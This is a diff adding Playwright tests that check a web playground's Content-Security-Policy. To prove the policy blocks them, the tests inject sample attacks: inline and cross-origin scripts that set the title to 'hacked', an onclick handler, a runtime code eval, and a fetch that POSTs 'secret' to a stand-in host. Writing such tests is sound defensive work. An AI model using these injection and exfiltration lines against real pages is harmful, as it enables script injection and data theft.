@@ -84,6 +84,97 @@ for (const [name, text] of [
   });
 }
 
+test.describe("the Content-Security-Policy", () => {
+  test.beforeEach(async ({ playground, faults }) => {
+    faults.expect(/Content.Security.Policy/i, /elsewhere\.example/, /blob:/);
+    await playground.page.addInitScript(() => {
+      globalThis.blocked = [];
+      addEventListener("securitypolicyviolation", (event) => globalThis.blocked.push(event.effectiveDirective));
+    });
+    await playground.open();
+  });
+
+  const blocked = (page) => page.evaluate(() => globalThis.blocked);
+
+  test("stands in the page and names no other origin and nothing inline", async ({ playground }) => {
+    const content = await playground.page.locator("meta[http-equiv='Content-Security-Policy']").getAttribute("content");
+    const rules = Object.fromEntries(content.split(";").map((rule) => rule.trim().split(/\s+(.*)/)));
+    expect(rules["default-src"]).toBe("'none'");
+    expect(rules["script-src"]).toBe("'self' 'wasm-unsafe-eval'");
+    expect(rules["connect-src"]).toBe("'self'");
+    expect(rules["style-src"]).toBe("'self'");
+    expect(rules["base-uri"]).toBe("'none'");
+    expect(rules["form-action"]).toBe("'none'");
+    expect(content).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
+    // not those in the shadow root of the editor, whose styles are set by script, each property by itself
+    const inline = () => document.querySelectorAll("script:not([src]), [onclick], [style]").length;
+    expect(await playground.page.evaluate(inline)).toBe(0);
+    await expect(playground.page.locator("meta[name=referrer]")).toHaveAttribute("content", "no-referrer");
+  });
+
+  test("lets no inline script, handler or script of another origin run", { tag: "@core" }, async ({ playground }) => {
+    await playground.page.evaluate(() => {
+      const add = (fill) => {
+        const script = document.createElement("script");
+        fill(script);
+        document.body.append(script);
+      };
+      add((script) => (script.textContent = "document.title = 'hacked'"));
+      add((script) => (script.src = "https://elsewhere.example/evil.js"));
+      add((script) => (script.src = "data:text/javascript,document.title='hacked'"));
+      const button = document.createElement("button");
+      button.setAttribute("onclick", "document.title = 'hacked'");
+      document.body.append(button);
+      button.click();
+    });
+    await expect.poll(() => blocked(playground.page)).toEqual(
+      expect.arrayContaining(["script-src-elem", "script-src-attr"]),
+    );
+    expect((await blocked(playground.page)).filter((directive) => directive === "script-src-elem")).toHaveLength(3);
+    await expect(playground.page).toHaveTitle("NetworkPolicy Playground");
+  });
+
+  test("lets no text become code", { tag: "@core" }, async ({ playground }) => {
+    // what a test evaluates may make code from text, what a timer calls later may not
+    const outcome = await playground.page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          setTimeout(() => {
+            try {
+              resolve(new Function("return 'ran'")());
+            } catch (error) {
+              resolve(error.name);
+            }
+          });
+        }),
+    );
+    expect(outcome).toBe("EvalError");
+    expect(await blocked(playground.page)).toContain("script-src");
+  });
+
+  test("lets nothing talk to another origin", { tag: "@core" }, async ({ playground }) => {
+    const outcome = await playground.page.evaluate(async () => {
+      const image = new Image();
+      image.src = "https://elsewhere.example/pixel.png";
+      const style = document.createElement("link");
+      style.rel = "stylesheet";
+      style.href = "https://elsewhere.example/evil.css";
+      document.head.append(style);
+      const frame = document.createElement("iframe");
+      frame.src = "https://elsewhere.example/";
+      document.body.append(frame);
+      return fetch("https://elsewhere.example/collect", { method: "POST", body: "secret" }).then(
+        () => "sent",
+        (error) => error.name,
+      );
+    });
+    expect(outcome).toBe("TypeError");
+    await expect.poll(() => blocked(playground.page)).toEqual(
+      expect.arrayContaining(["img-src", "style-src-elem", "frame-src", "connect-src"]),
+    );
+  });
+});
+
 test("characters that the page parts its own messages with do no harm in a text", async ({ playground }) => {
   await playground.open("#/s/blank");
   const planted = String.raw`"foo\x1eerror\x1f1:1:1:5\x1fplanted\x1fhelp\x1fFix me\x1f1:1:1:5\x1fPWNED": 1`;
